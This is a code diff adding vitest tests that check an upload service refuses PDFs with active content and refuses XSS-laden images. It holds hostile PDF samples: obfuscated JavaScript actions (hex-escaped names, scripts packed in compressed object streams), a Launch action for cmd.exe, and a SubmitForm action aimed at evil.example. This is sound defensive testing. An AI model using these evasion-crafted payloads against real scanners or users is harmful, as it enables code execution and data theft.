@@ -1,12 +1,12 @@
 // The upload battery: extension by content by name by size, archives that unfold, active content. Nothing of it may come in. Source: security.md K15, K16.
 import { plantHomes } from '../../tests/contract/rows.ts'
 import { Readable } from 'node:stream'
-import { deflateRawSync } from 'node:zlib'
+import { deflateRawSync, deflateSync } from 'node:zlib'
 import { afterAll, beforeAll, expect, test } from 'vitest'
 import { world, type Client, type World } from '../../tests/world.ts'
 import { AT } from './attachments.server.ts'
 import { ACCEPTED, TEXTS } from './content.server.ts'
-import { md5, office, PDF, picture, chunksOf, video, zipOf } from './testing.server.ts'
+import { md5, office, PDF, pdfOf, picture, chunksOf, video, zipOf } from './testing.server.ts'
 
 let w: World
 let county: Client
@@ -59,6 +59,8 @@ const BAD: Record<string, Buffer> = {
   bmpHead: Buffer.from('BM<script>alert(document.domain)</script>.................'),
   bmpLonger: Buffer.concat([BMP, Buffer.from('<script>')]),
   zipHead: Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.alloc(100)]),
+  pdfHead: Buffer.from('%PDF-1.4\n%%EOF\n'),
+  pdfCut: PDF.subarray(0, -30),
   pdfLater: Buffer.concat([Buffer.from('<html>'), PDF]),
   oleHead: Buffer.concat([Buffer.from('d0cf11e0', 'hex'), Buffer.from('<script>'), Buffer.alloc(100)]),
   blankThenPage: Buffer.from('\ufeff\r\n  <HTML><body onload=alert(1)>'),
@@ -133,6 +135,60 @@ test('no name brings in another extension, a path or an empty name', async () =>
   expect(escaped).toEqual([])
   expect((await send(`${'名'.repeat(64)}.pdf`, PDF)).code).toBe(200)
   expect((await send(`${'名'.repeat(65)}.pdf`, PDF)).key).toBe('file-name')
+})
+
+/** Objects of a PDF packed into one stream, as writers since 1.5 do; `dictionary`: what its stream says of itself. */
+const packed = (objects: string, dictionary = '/Type/ObjStm/N 1/First 4/Filter/FlateDecode'): string => {
+  const bytes = deflateSync(Buffer.from(`9 0 ${objects}`))
+  return `<<${dictionary}/Length ${bytes.length}>>stream\n${bytes.toString('latin1')}\nendstream`
+}
+const bytesOf = (text: string) => Buffer.from(text, 'latin1')
+const SCRIPT = '/S/JavaScript/JS(app.alert\\(1\\))'
+
+test('a PDF that does something when it is opened, or that cannot be looked through, is refused in both languages; what only leads somewhere is taken', async () => {
+  const before = await stored()
+  const at = (open: string) => pdfOf(`<</Type/Catalog/OpenAction ${open}>>`)
+  const script = ['PDF含有脚本', 'the PDF has a script']
+  const file = ['PDF含有内嵌文件', 'the PDF has an embedded file']
+  const hidden = ['PDF的内部结构无法检查', 'the inner structure of the PDF cannot be looked through']
+  const refused: [Buffer, string[]][] = [
+    [at(`<<${SCRIPT}>>`), script],
+    [at('<</S/Java#53cript/JS(x)>>'), script],
+    [at('<</S /#4a#61#76#61#53#63#72#69#70#74 /JS 3 0 R>>'), script],
+    [pdfOf(`<</Type/Catalog/Names<</JavaScript<</Names[(a)2 0 R]>>>>>>`), script],
+    [pdfOf('<</Type/Catalog>>', bytesOf(packed(`<<${SCRIPT}>>`))), script],
+    // one that does not say what it is, or says it is something else
+    [pdfOf('<</Type/Catalog>>', bytesOf(packed(`<<${SCRIPT}>>`, '/N 1/F#69rst 4/Filter[/FlateDecode]'))), script],
+    [pdfOf('<</Type/Catalog>>', bytesOf(packed(`<<${SCRIPT}>>`, '/Subtype/Image'))), script],
+    [pdfOf(Buffer.concat([Buffer.alloc(2 ** 20 - 30, ' '), Buffer.from(`<<${SCRIPT}>>`)])), script],
+    [at('<</S/Launch/F(cmd.exe)>>'), ['PDF含有启动程序的动作', 'the PDF has an action that starts a program']],
+    [at('<</S/SubmitForm/F(http://evil.example)>>'), ['PDF含有提交数据的动作', 'the PDF has an action that sends data']],
+    [pdfOf('<</Type/Catalog/Names<</EmbeddedFiles 2 0 R>>>>'), file],
+    [pdfOf('<</Type/Catalog>>', '<</Type/Filespec/EF<</F 3 0 R>>>>', '<</Type/EmbeddedFile/Length 1>>stream\nx\nendstream'), file],
+    [pdfOf('<</Type/Catalog/AcroForm<</XFA[(a)2 0 R]>>>>'), ['PDF含有动态表单', 'the PDF has a form with scripts']],
+    [pdfOf('<</Type/Catalog/Encrypt 5 0 R>>'), ['PDF已加密，无法检查', 'the PDF is encrypted and cannot be looked through']],
+    [pdfOf('<</Type/Catalog>>', bytesOf(packed('x', '/Type/ObjStm/N 1/First 4/Filter[/ASCIIHexDecode/FlateDecode]'))), hidden],
+    [pdfOf('<</Type/Catalog>>', bytesOf(packed(' '.repeat(40 * 2 ** 20)))), hidden],
+  ]
+  for (const [bytes, [zh, en]] of refused) {
+    const a = await send('a.pdf', bytes)
+    expect([a.code, a.key, a.msg]).toEqual([400, 'file-unsafe', `上传失败，${zh}`])
+    const again = await county.upload(`${AT}/upload`, { name: 'a.pdf', bytes }, {}, { 'accept-language': 'en' })
+    expect(again.msg).toBe(`Upload failed: ${en}`)
+  }
+  expect(await stored()).toBe(before)
+  const taken = [at('[2 0 R/Fit]'), at('<</S/GoTo/D[2 0 R/Fit]>>'), pdfOf('<</S/URI/URI(https://example.org)>>'), pdfOf(bytesOf(packed('<</A 1>>')))]
+  for (const bytes of taken) expect((await send('a.pdf', bytes)).msg).toBe('操作成功')
+})
+
+test('a PDF that lies in the store from before is shown in place only when it does nothing', async () => {
+  const { id, ossName } = (await send('旧.pdf', PDF)).data
+  const old = await w.storage.put(pdfOf(`<</Type/Catalog/OpenAction<<${SCRIPT}>>>>`), '000000')
+  const shown = async () => String((await county.get(`${AT}/preview`, { id })).headers['content-disposition']).split(';')[0]
+  expect(await shown()).toBe('inline')
+  await w.db.pool.query('update attach set "ossName" = $1 where id = $2', [old, id])
+  expect(await shown()).toBe('attachment')
+  await w.db.pool.query('update attach set "ossName" = $1 where id = $2', [ossName, id])
 })
 
 /** A ZIP whose entries share the same packed bytes: it unfolds to far more than it holds. */
